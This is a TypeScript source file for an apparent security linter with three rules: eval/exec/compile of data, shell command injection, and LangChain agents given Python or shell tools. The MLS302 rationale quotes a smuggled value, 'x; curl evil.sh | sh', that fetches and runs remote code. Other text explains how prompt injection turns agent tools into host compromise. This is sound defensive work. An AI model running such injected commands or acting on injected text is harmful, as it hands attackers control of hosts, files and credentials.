/** MLS3xx: code or shell execution of data that is not a constant. */
import { CallSite } from '../engine/callSite';
import type { Node } from '../engine/parser';
import { defineRule } from '../engine/rule';
import { inImportStatement, nextNonBlank, previousNonBlank } from '../engine/textScan';
import type { SourceText } from '../engine/textScan';
import type { Rule } from '../engine/rule';
import type { SemanticModel } from '../engine/semantic';
import { ATLAS, CWE_REFERENCE, constantOf } from './support';
import { argumentOrCall, flagFix, flagOrigin, isFixedText, isTruthy, spelled } from './syntax';
import { inputSourcesOf } from '../engine/dataflow/index';
import { inputOrigin } from './dataflow/shared';

// ---------------------------------------------------------------------------------------------
// MLS301: eval / exec / compile of data.

const CODE_BUILTINS = ['eval', 'exec', 'compile'];
const CODE_CALLEES = CODE_BUILTINS.flatMap((name) => [name, `builtins.${name}`, `__builtin__.${name}`]);
const COMPILE_CALLEES = new Set(['compile', 'builtins.compile', '__builtin__.compile']);

/** True when the text calls `name(`, binds it (`run = eval`) or imports it, outside an attribute. */
function usesBuiltin(source: SourceText, name: string): boolean {
  const text = source.text;
  for (const at of source.identifiers(name)) {
    const before = previousNonBlank(text, at);
    if (before === '.') continue;
    if (nextNonBlank(text, at + name.length) === '(' || before === '=' || inImportStatement(text, at)) return true;
  }
  return false;
}

/** True when `node` is (a name bound to) a call of the builtin `compile`: reported on its own. */
function isCompiledCode(model: SemanticModel, node: Node): boolean {
  let value: Node | undefined = node;
  if (value.type === 'identifier') {
    const binding = model.lookup(value.text, value.startIndex);
    value = binding?.kind === 'assign' ? binding.value : undefined;
  }
  if (value?.type !== 'call') return false;
  const fn = value.childForFieldName('function');
  return !!fn && COMPILE_CALLEES.has(model.qualifiedName(fn) ?? '');
}

export const dynamicCodeExecutionRule = defineRule({
  code: 'MLS301',
  name: 'dynamic-code-execution',
  title: '`eval`, `exec` or `compile` of text that is not a constant',
  severity: 'error',
  cwe: [95, 94],
  threats: ['adversarial-input'],
  atlas: ATLAS.promptInjection,
  rationale:
    'The builtins `eval`, `exec` and `compile` turn text into running Python. When that text is not written in the program itself (a request field, a config value, a file, or the output of a language model that a prompt injection can steer) its author gets the full power of the process: files, credentials, network. Restricting `globals`/`__builtins__` does not make it safe; escapes from such sandboxes are well known.',
  remediation:
    'Parse data instead of running it: `json.loads` or `ast.literal_eval` for literals, a dispatch table of allowed functions for commands, a small expression parser for formulas; run model-written code only in an isolated sandbox (container, separate user, no secrets).',
  references: [
    { title: 'Python builtins: eval, exec, compile', url: 'https://docs.python.org/3/library/functions.html#eval' },
    { title: 'ast.literal_eval', url: 'https://docs.python.org/3/library/ast.html#ast.literal_eval' },
    CWE_REFERENCE(95),
  ],
  triggers: ['eval', 'exec', 'compile'],
  callees: CODE_CALLEES,
  // `re.compile`, `df.eval` and the word in prose are everywhere; the builtins are reached by
  // their bare name called, bound to another name or imported, or through the builtins module.
  mayFire: (source) =>
    CODE_BUILTINS.some((name) => usesBuiltin(source, name)) || source.hasIdentifier('builtins') || source.hasIdentifier('__builtin__'),
  mayFireWords: [...CODE_BUILTINS, 'builtins', '__builtin__'],
  onCall(call, context) {
    const builtin = call.callee!.slice(call.callee!.lastIndexOf('.') + 1);
    const source = call.argument('source', 0);
    if (!source) return;
    if (isFixedText(context.model, source.value)) return;
    // `exec(compile(src, ...))`: the compile call is the one reported.
    if (builtin !== 'compile' && isCompiledCode(context.model, source.value)) return;
    const what =
      builtin === 'compile'
        ? 'compiles text into code that is then run'
        : `runs its argument as ${builtin === 'eval' ? 'a Python expression' : 'Python code'}`;
    // Request, UI or command-line text (engine/dataflow) is named, with where it enters.
    const origin = inputOrigin(inputSourcesOf(context.model, source.value));
    context.report({
      node: call.node,
      message: `\`${spelled(call)}\` ${what}, and that text is not a constant: whoever controls it runs arbitrary code in this process (CWE-95).${origin.sentence} Parse data with \`json.loads\` or \`ast.literal_eval\` instead.`,
      related: origin.related,
    });
  },
});

// ---------------------------------------------------------------------------------------------
// MLS302: shell commands built from data.

/** Popen-style functions: a shell is involved only with `shell=True`. */
const POPEN_STYLE = ['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen'];
/** Functions that always hand their command line to a shell. */
const ALWAYS_SHELL = [
  'os.system',
  'os.popen',
  'posix.system',
  'subprocess.getoutput',
  'subprocess.getstatusoutput',
  'asyncio.create_subprocess_shell',
];
const ALWAYS_SHELL_NAMES = [...new Set(ALWAYS_SHELL.map((callee) => callee.slice(callee.lastIndexOf('.') + 1)))];
/** Programs that run their `-c` argument as a shell script. */
const SHELL_PROGRAMS = /^(?:.*\/)?(?:sh|bash|zsh|dash|ksh|ash|fish)$|^(?:cmd|cmd\.exe|powershell|powershell\.exe|pwsh)$/i;
/** A string literal naming one of SHELL_PROGRAMS, as MLS302's `mayFire` looks for it. */
const SHELL_PROGRAM_LITERAL = /["'](?:[^"'\s]*\/)?(?:sh|bash|zsh|dash|ksh|ash|fish|cmd|cmd\.exe|powershell|powershell\.exe|pwsh)["']/i;

/** True when a module function `name` is reached as an attribute (`os.system`) or imported. */
function reachesFunction(source: SourceText, name: string): boolean {
  for (const at of source.identifiers(name))
    if (previousNonBlank(source.text, at) === '.' || inImportStatement(source.text, at)) return true;
  return false;
}

export const shellInjectionRule = defineRule({
  code: 'MLS302',
  name: 'shell-injection',
  title: 'Shell command built from data that is not a constant',
  severity: 'error',
  cwe: [78],
  threats: ['adversarial-input'],
  rationale:
    'A shell parses its command line: quotes, `;`, `&&`, `|`, `$(...)` and backticks all have meaning. When a command is assembled from a file name, a request parameter, a dataset field or a model answer and then run through a shell (`os.system`, `os.popen`, `subprocess.*(..., shell=True)`, `sh -c`), a value such as `x; curl evil.sh | sh` runs a second command with the privileges of the training or serving job.',
  remediation:
    'Pass the program and its arguments as a list without `shell=True` (`subprocess.run(["tar", "czf", out, path], check=True)`), turning a fixed command string into such a list with `shlex.split` once; if a shell feature is really needed, quote every variable part with `shlex.quote`.',
  references: [
    { title: 'subprocess: security considerations', url: 'https://docs.python.org/3/library/subprocess.html#security-considerations' },
    { title: 'shlex.quote', url: 'https://docs.python.org/3/library/shlex.html#shlex.quote' },
    CWE_REFERENCE(78),
  ],
  triggers: ['subprocess', 'os', 'posix', 'asyncio'],
  callees: [...POPEN_STYLE, ...ALWAYS_SHELL],
  // A shell is involved only through a function that always uses one, a `shell` argument, or a
  // shell program given `-c`.
  mayFireWords: ['shell', ...ALWAYS_SHELL_NAMES],
  mayFire: (source) =>
    source.hasIdentifier('shell') ||
    /["']shell["']/.test(source.text) ||
    ALWAYS_SHELL_NAMES.some((name) => reachesFunction(source, name)) ||
    SHELL_PROGRAM_LITERAL.test(source.text),
  onCall(call, context) {
    const model = context.model;
    if (call.is(...ALWAYS_SHELL)) {
      const command = call.argument(call.is('os.popen', 'os.system', 'posix.system') ? 'command' : 'cmd', 0);
      if (!command || isFixedText(model, command.value, { shellQuoted: true })) return;
      const origin = inputOrigin(inputSourcesOf(model, command.value));
      context.report({
        node: call.node,
        message: `\`${spelled(call)}\` runs its command line through a shell, and the command is built from data: shell metacharacters in it run other commands (CWE-78).${origin.sentence} Use \`subprocess.run([...])\` with an argument list.`,
        related: origin.related,
      });
      return;
    }
    const args = call.argument('args', 0);
    if (!args) return;
    const shell = call.argument('shell');
    const shellValue = constantOf(context, shell);
    const items = context.constant(args.value);
    if (shell && isTruthy(shellValue)) {
      if (isFixedText(model, args.value, { shellQuoted: true })) return;
      // With a sequence, only the first item is the script; the others become $0, $1... of it.
      if (items?.kind === 'seq' && items.value.length > 0 && isFixedText(model, items.value[0], { shellQuoted: true })) return;
      const origin = inputOrigin(inputSourcesOf(model, args.value));
      const flagged = flagOrigin(context, call, shell, shellValue, '`shell` is set to True here');
      context.report({
        node: call.node,
        message: `\`${spelled(call)}(..., shell=True)\` hands a command built from data to the shell: metacharacters in it run other commands (CWE-78).${origin.sentence} Pass an argument list without \`shell=True\`.`,
        related: flagged || origin.related ? [...(flagged ?? []), ...(origin.related ?? [])] : undefined,
      });
      return;
    }
    // `subprocess.run(["bash", "-c", command])`: a shell all the same.
    if (items?.kind !== 'seq' || items.value.length < 3) return;
    const program = model.constantValue(items.value[0]);
    const flag = model.constantValue(items.value[1]);
    if (program?.kind !== 'str' || !SHELL_PROGRAMS.test(program.value)) return;
    if (flag?.kind !== 'str' || !/^(?:-c|\/c|-Command)$/i.test(flag.value)) return;
    if (isFixedText(model, items.value[2], { shellQuoted: true })) return;
    context.report({
      node: call.node,
      message: `\`${spelled(call)}\` runs \`${program.value} ${flag.value}\` with a script built from data: shell metacharacters in it run other commands (CWE-78). Run the program directly with an argument list.`,
    });
  },
});

// ---------------------------------------------------------------------------------------------
// MLS303: LLM agent tools that run code or shell commands.

const CODE_TOOLS = new Map<string, string>([
  ['PythonREPLTool', 'runs Python code written by the model'],
  ['PythonAstREPLTool', 'runs Python code written by the model'],
  ['PythonREPL', 'runs Python code it is given'],
  ['ShellTool', 'runs shell commands written by the model'],
  ['BashProcess', 'runs shell commands it is given'],
]);
/** `load_tools` names that give the agent a code or shell tool. */
const DANGEROUS_TOOL_NAMES = new Set(['terminal', 'python_repl', 'shell', 'bash']);
const DANGEROUS_KEYWORDS = ['allow_dangerous_code', 'allow_dangerous_tools', 'allow_dangerous_requests'];
const KEYWORD_EFFECT: Record<string, string> = {
  allow_dangerous_code: 'lets the agent execute Python code the model writes',
  allow_dangerous_tools: 'enables tools that run shell commands or code',
  allow_dangerous_requests: 'lets the agent send arbitrary HTTP requests the model composes',
};

function isLangChain(callee: string | undefined): callee is string {
  return callee !== undefined && /^langchain(?:_[a-z0-9]+)?\./.test(callee);
}

/** True when a call may carry one of the keywords: written out, or inside a `**` splat. */
function mayCarryDangerousKeyword(callNode: Node): boolean {
  const args = callNode.childForFieldName('arguments');
  if (args?.type !== 'argument_list') return false;
  for (const arg of args.namedChildren) {
    if (!arg) continue;
    if (arg.type === 'dictionary_splat') return true;
    if (arg.type === 'keyword_argument' && DANGEROUS_KEYWORDS.includes(arg.childForFieldName('name')?.text ?? '')) return true;
  }
  return false;
}

export const agentCodeExecutionToolsRule = defineRule({
  code: 'MLS303',
  name: 'agent-code-execution-tools',
  title: 'LLM agent given a tool that runs code or shell commands',
  severity: 'error',
  cwe: [94, 78],
  threats: ['adversarial-input'],
  atlas: ATLAS.pluginCompromise,
  rationale:
    'An agent decides which tool to call, with which input, from text: the user prompt, retrieved documents, web pages, tool output. A Python REPL or shell tool therefore lets anyone who can put text in front of the model (a direct or indirect prompt injection) run code on the host, with its files, network access and API keys. LangChain guards its most dangerous features behind `allow_dangerous_code`, `allow_dangerous_tools` and `allow_dangerous_requests`; setting them waives that guard.',
  remediation:
    'Give agents narrow tools with validated inputs instead of a REPL or shell; if code execution is the product, run it in a disposable sandbox (container or remote interpreter without credentials or network) and keep the `allow_dangerous_*` flags off in the serving process.',
  references: [
    { title: 'LangChain security policy', url: 'https://python.langchain.com/docs/security/' },
    { title: 'OWASP Top 10 for LLM Applications: Excessive Agency', url: 'https://genai.owasp.org/llmrisk/llm062025-excessive-agency/' },
    CWE_REFERENCE(94),
  ],
  triggers: ['PythonREPL', 'PythonAstREPLTool', 'ShellTool', 'BashProcess', 'load_tools', 'allow_dangerous_'],
  methods: [...CODE_TOOLS.keys(), 'load_tools'],
  onCall(call, context) {
    const callee = call.callee;
    if (!isLangChain(callee)) return;
    const name = callee.slice(callee.lastIndexOf('.') + 1);
    const effect = CODE_TOOLS.get(name);
    if (effect) {
      context.report({
        node: call.node,
        message: `\`${name}\` ${effect}: a prompt injection in anything the agent reads becomes code execution on this host (CWE-94). Use narrow tools or a sandbox.`,
      });
      return;
    }
    if (name !== 'load_tools') return;
    // Recent LangChain refuses these tools without allow_dangerous_tools=True, reported separately.
    if (isTruthy(constantOf(context, call.keywords.get('allow_dangerous_tools')))) return;
    const names = context.constant(call.argument('tool_names', 0)?.value);
    if (names?.kind !== 'seq') return;
    for (const item of names.value) {
      const value = context.constant(item);
      if (value?.kind !== 'str' || !DANGEROUS_TOOL_NAMES.has(value.value)) continue;
      const inCall = item.startIndex >= call.node.startIndex && item.endIndex <= call.node.endIndex;
      context.report({
        node: inCall ? item : call.node,
        message: `\`load_tools\` with "${value.value}" gives the agent a tool that runs ${value.value === 'python_repl' ? 'Python code' : 'shell commands'}: a prompt injection becomes code execution on this host (CWE-78).`,
        related: inCall ? undefined : [{ span: { start: item.startIndex, end: item.endIndex }, message: 'the tool is named here' }],
      });
    }
  },
  onFile(context) {
    if (!context.text.includes('allow_dangerous_')) return;
    for (const node of context.model.calls) {
      if (!mayCarryDangerousKeyword(node)) continue;
      const call = new CallSite(node, context.model);
      for (const keyword of DANGEROUS_KEYWORDS) {
        const argument = call.keywords.get(keyword);
        if (!argument) continue;
        const value = constantOf(context, argument);
        if (!isTruthy(value)) continue;
        context.report({
          node: argumentOrCall(call, argument),
          message: `\`${keyword}=True\` ${KEYWORD_EFFECT[keyword]}: anyone who can inject text into the prompt or the documents the agent reads can use it (CWE-94).`,
          related: flagOrigin(context, call, argument, value, `\`${keyword}\` is set to True here`),
          fixes: flagFix(`Set \`${keyword}=False\``, argument, value, 'False', false),
        });
      }
    }
  },
});

export const codeExecutionRules: Rule[] = [dynamicCodeExecutionRule, shellInjectionRule, agentCodeExecutionToolsRule];
